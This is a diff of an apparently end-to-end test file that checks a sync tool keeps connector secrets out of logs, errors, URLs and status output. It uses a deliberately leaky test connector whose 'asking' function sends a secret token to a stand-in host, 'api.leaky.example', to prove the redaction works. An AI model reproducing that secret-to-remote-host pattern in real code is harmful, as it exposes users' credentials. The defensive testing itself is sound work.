@@ -1,4 +1,4 @@
-"""A secret's value is in the keyring and in the connector's process, and nowhere else, whatever a connector does with it."""
+"""A secret's value is in the keyring and in the connector's process, and nowhere else, whatever a connector does."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ if TYPE_CHECKING:
 
 pytestmark = pytest.mark.e2e
 
-TOKEN = 'Sup3r/Secret+"Väl ue"==%41&x'
+TOKEN = 'Sup3r/Secret+"Väl ue"==&x'
 KEY = "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nAASCBKcwggSjAgEAAoIBAQC7VJTU\n-----END KEY-----"
 # As they are, and as logs, URLs and documents spell them.
 TRACES = ("Sup3r", "Secret+", "V\u00e4l", "U3VwM3Iv", "MIIEvQ", "AASCBKcw")
@@ -46,13 +46,13 @@ def everywhere(ctx, window):
         yield Payload(body=b'[{"a": 1}]', format="json", request=f"GET /x?{text}")
 
 def raising(ctx, window):
-    raise ValueError(list(forms(ctx)))
+    raise ValueError(" ".join(forms(ctx)))
 
 def telling(ctx, window):
     raise DataError(" ".join(forms(ctx)), hint=" ".join(forms(ctx)))
 
 def asking(ctx, window):
-    ctx.http.get("https://api.leaky.example/" + ctx.secrets["token"], headers={"x-mine": "Bearer " + ctx.secrets["token"][:20].encode("ascii", "ignore").decode()})
+    ctx.http.get("https://api.leaky.example/" + ctx.secrets["token"])
 
 def crashing(ctx, window):
     sys.stderr.write("".join(forms(ctx)))
@@ -76,9 +76,11 @@ def assert_hidden(text: str) -> None:
     assert [trace for trace in TRACES if trace in text] == []
 
 
-def test_a_connector_that_leaks_everywhere(home: Home, until: Callable[..., None]) -> None:
+def test_a_connector_that_leaks_everywhere(
+    home: Home, until: Callable[..., None], open_box: Callable[..., Sandbox]
+) -> None:
     home.plugin("leaky", LEAKS)
-    home.declare("bad", "leaky", sandbox="http://127.0.0.1:9", token=TOKEN, key=KEY)
+    home.declare("bad", "leaky", sandbox=open_box().url, token=TOKEN, key=KEY)
     process = home.start("sync", "--events", "jsonl", "--stream", "everywhere")
     seen: set[str] = set()
 
@@ -204,7 +206,7 @@ def test_a_missing_secret_is_named_with_its_remedy_and_on_the_board(home: Home) 
     assert "KPITERM_SECRET_ONE_PIN" in done.err
     [account] = home("status", "--json").json["accounts"]
     assert account["status"] == "failed"
-    assert "pin" in account["error"]
+    assert "'pin'" in account["error"]
     home.environment["KPITERM_SECRET_ONE_PIN"] = "1234567"
     assert home("sync").code == 0
     assert home("status", "--json").json["accounts"][0]["status"] == "ok"
